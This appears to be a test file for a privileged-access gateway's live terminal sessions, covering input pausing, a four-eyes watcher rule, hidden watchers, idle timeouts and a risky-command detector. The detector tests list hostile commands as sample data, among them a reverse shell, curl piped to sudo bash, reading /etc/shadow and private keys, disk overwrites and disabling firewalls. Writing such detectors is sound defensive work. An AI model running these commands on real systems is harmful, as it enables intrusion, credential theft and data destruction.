// Rules of a platform for a live session: paused input, four eyes, idle end, hidden watchers, and what raises the risk.
import assert from "node:assert/strict";
import { setImmediate as turn } from "node:timers/promises";
import { after, afterEach, before, beforeEach, describe, test } from "node:test";
import { needs, startSshd, unixUsersAvailable, type Sshd } from "@strongroom/connectors/testing";
import type { Target } from "@strongroom/connectors";
import { pinnedTarget, startBrowserGateway, type BrowserGateway } from "../../testing/browser-gateway.ts";
import { manualClock, type ManualClock } from "../../testing/manual-clock.ts";
import type { OpenedSession } from "./ports.ts";
import { LARGE_TRANSFER_BYTES, SessionRisks } from "./session-risks.ts";

const RULES: OpenedSession["rules"] = {
  idleMinutes: null,
  needsWatcher: false,
  hidesWatchers: false,
};

describe("the rules of a live session", needs(unixUsersAvailable()), () => {
  let sshd: Sshd;
  let target: Target;
  let password: string;
  let clock: ManualClock;
  let world: BrowserGateway;

  before(async () => {
    sshd = await startSshd();
    const user = await sshd.addUser();
    password = user.password;
    target = await pinnedTarget(sshd, user.username);
  });
  after(() => sshd.stop());
  beforeEach(async () => {
    clock = manualClock();
    world = await startBrowserGateway(clock);
  });
  afterEach(() => world.stop());

  const begin = (rules: Partial<OpenedSession["rules"]> = {}) =>
    world.begin(target, password, { rules: { ...RULES, ...rules } });

  async function watch(sessionId: string) {
    const watcher = await world.open(sessionId, "watch");
    watcher.send({ t: "ticket", ticket: world.sessions.issueWatch(sessionId) });
    await watcher.told("watching");
    return watcher;
  }

  /** In steps, so that the reports to the database happen in between. */
  async function pass(milliseconds: number): Promise<void> {
    for (let passed = 0; passed < milliseconds; passed += 5000) {
      clock.advance(Math.min(5000, milliseconds - passed));
      await turn();
    }
  }

  test("the terminal announces recorded input before typing, and only where input is recorded", async () => {
    const told = await world.begin(target, password, { recording: { hasInput: true, days: null } });
    assert.match((await told.browser.told("notice")).text, /^What you type is recorded\./);
    const other = await begin();
    await other.browser.sees(/[$] /);
    world.gateway.notice(other.sessionId, "Ada: hello");
    assert.equal((await other.browser.told("notice")).text, "Ada: hello");
  });

  test("a gateway starts sessions as soon as its drain has ended, without waiting for the next report", async () => {
    world.sessions.database.isDraining = true;
    await pass(5000);
    world.sessions.database.isDraining = false;
    const { browser } = await begin();
    await browser.sees(/[$] /);
  });

  test("paused input does not reach the target, not even after the pause", async () => {
    const { browser, sessionId } = await begin();
    await browser.sees(/[$] /);
    world.sessions.pauses.set(sessionId, "Mona");
    world.gateway.check();
    assert.equal((await browser.told("paused")).reason, "Mona paused your input.");
    browser.type("echo dropped-$((40+2))\n");
    browser.send({ t: "resize", cols: 132, rows: 43 });
    const watcher = await watch(sessionId);
    assert.equal((await watcher.told("size")).cols, 132);
    world.sessions.pauses.delete(sessionId);
    world.gateway.check();
    await browser.told("resumed");
    browser.type("echo sent-$((40+2))\n");
    await browser.sees(/sent-42/);
    assert.doesNotMatch(browser.shown(), /dropped/);
  });

  test("a watcher sees that the input of a session is paused", async () => {
    const { browser, sessionId } = await begin();
    const watcher = await watch(sessionId);
    world.sessions.pauses.set(sessionId, "Mona");
    world.gateway.check();
    assert.equal((await watcher.told("paused")).reason, "Mona paused your input.");
    assert.equal((await browser.told("paused")).reason, "Mona paused your input.");
  });

  test("four eyes: a session passes no data before a watcher has joined or after the last one has left", async () => {
    const { browser, sessionId } = await begin({ needsWatcher: true });
    const waiting = "Waiting until another user watches this session.";
    assert.equal((await browser.told("paused")).reason, waiting);
    browser.type("echo early-$((40+2))\n");
    assert.equal(browser.shown(), "");
    const watcher = await watch(sessionId);
    await browser.told("resumed");
    await browser.sees(/[$] /);
    browser.type("echo watched-$((40+2))\n");
    await watcher.sees(/watched-42/);
    watcher.socket.close();
    assert.equal((await browser.told("paused")).reason, waiting);
    const shown = browser.shown();
    browser.type("echo late-$((40+2))\n");
    await watch(sessionId);
    await browser.told("resumed");
    browser.type("echo again-$((40+2))\n");
    await browser.sees(/again-42/);
    assert.doesNotMatch(browser.shown().slice(shown.length), /late/);
    assert.doesNotMatch(browser.shown(), /early/);
  });

  test("a session that waits for a watcher ends like any other", async () => {
    const { browser, sessionId } = await begin({ needsWatcher: true });
    await browser.told("paused");
    world.sessions.revoke(sessionId, { reason: "revoked", detail: "The grant was revoked." });
    world.gateway.check();
    assert.equal((await browser.told("end")).reason, "revoked");
    await browser.gone;
  });

  test("the number of watchers that the user sees excludes hidden ones", async () => {
    const { browser, sessionId } = await begin({ hidesWatchers: true });
    const watcher = await watch(sessionId);
    browser.type("echo seen-$((40+2))\n");
    await watcher.sees(/seen-42/);
    await browser.sees(/seen-42/);
    const told = await Promise.race([browser.told("watchers").then(() => true), Promise.resolve(false)]);
    assert.equal(told, false);
  });

  test("a session ends when its user types nothing for the maximum idle time", async () => {
    const { browser } = await begin({ idleMinutes: 5 });
    await browser.sees(/[$] /);
    await pass(4 * 60_000);
    browser.type("echo busy-$((40+2))\n");
    await browser.sees(/busy-42/);
    await pass(4 * 60_000);
    browser.type("echo still-$((40+2))\n");
    await browser.sees(/still-42/);
    await pass(5 * 60_000 + 1);
    const end = await browser.told("end");
    assert.deepEqual([end.reason, end.detail], ["idle", "Nothing was typed for 5 min."]);
  });

  test("rules of the platform that change apply to a live session", async () => {
    const { browser, sessionId } = await begin();
    await browser.sees(/[$] /);
    world.sessions.changeRules(sessionId, { needsWatcher: true });
    world.gateway.check();
    assert.equal((await browser.told("paused")).reason, "Waiting until another user watches this session.");
    await watch(sessionId);
    await browser.told("resumed");
    world.sessions.changeRules(sessionId, { needsWatcher: false, idleMinutes: 3 });
    world.gateway.check();
    await turn();
    await pass(3 * 60_000 + 1);
    assert.deepEqual((await browser.told("end")).detail, "Nothing was typed for 3 min.");
  });

  test("a risky command in a shell is reported once, without the command", async () => {
    const { browser } = await begin();
    await browser.sees(/[$] /);
    browser.type("PS1='ada@web1:~$ '\n");
    await browser.sees(/\nada@web1/);
    browser.type("rm -rf /tmp/no-such-folder-$$; echo done-$((40+2))\n");
    await browser.sees(/done-42/);
    browser.type("rm -rf /tmp/no-such-folder-$$; echo done-$((50+2))\n");
    await browser.sees(/done-52/);
    assert.deepEqual(world.sessions.risks, ["Risky command: deletes files recursively"]);
  });
});

describe("risks in the output of a terminal", () => {
  const risksOf = (...pieces: string[]) => {
    const found: string[] = [];
    const risks = new SessionRisks((reason) => found.push(reason));
    for (const piece of pieces) risks.output(Buffer.from(piece));
    return found.map((each) => each.replace("Risky command: ", ""));
  };

  for (const [command, reason] of [
    ["rm -rf /srv", "deletes files recursively"],
    ["sudo rm --recursive /srv", "deletes files recursively"],
    ["dd if=/dev/zero of=/dev/sda", "overwrites a disk"],
    ["mkfs.ext4 /dev/sdb1", "overwrites a disk"],
    ["curl -s https://example.com/x | sudo bash", "runs a downloaded script"],
    ["bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "opens a reverse shell"],
    ["cat /etc/shadow", "reads password hashes or private keys"],
    ["cat ~/.ssh/id_ed25519", "reads password hashes or private keys"],
    ["useradd mallory", "changes users or passwords"],
    ["echo key >> ~/.ssh/authorized_keys", "adds an SSH key"],
    ["history -c", "removes traces"],
    ["setenforce 0", "switches a protection off"],
    ["iptables -F", "switches a protection off"],
  ] as const) {
    test(`${command} ${reason}`, () => assert.deepEqual(risksOf(`root@web1:~# ${command}\r\n`), [reason]));
  }

  test("finds a statement that deletes tables at a database prompt", () => {
    assert.deepEqual(risksOf("app=# DROP TABLE users;\r\n"), ["deletes database tables"]);
  });

  for (const harmless of ["rm notes.txt", "ls -lrt", "cat ~/.ssh/id_ed25519.pub", "dd if=a of=b", "passwordless"]) {
    test(`${harmless} is not a risk`, () => assert.deepEqual(risksOf(`root@web1:~# ${harmless}\r\n`), []));
  }

  test("colours, corrections and split input do not hide a command", () => {
    assert.deepEqual(risksOf("\u001b[1;32mroot@web1\u001b[0m:~# rm -", "rx\b \bf /srv\r", "\n"), [
      "deletes files recursively",
    ]);
  });

  test("a program's output is not treated as a command", () => {
    assert.deepEqual(risksOf("To clean up, run rm -rf /srv\r\n"), []);
  });

  test("an endless line is examined only up to the limit", () => {
    assert.deepEqual(risksOf("x".repeat(5_000_000), "\r\nroot@web1:~# history -c\r\n"), ["removes traces"]);
  });

  test("a large transfer is reported once", () => {
    const found: string[] = [];
    const risks = new SessionRisks((reason) => found.push(reason));
    for (const bytes of [1, LARGE_TRANSFER_BYTES, LARGE_TRANSFER_BYTES + 1, LARGE_TRANSFER_BYTES * 2]) {
      risks.transferred(bytes);
    }
    assert.deepEqual(found, ["Large transfer: more than 100 MB"]);
  });
});
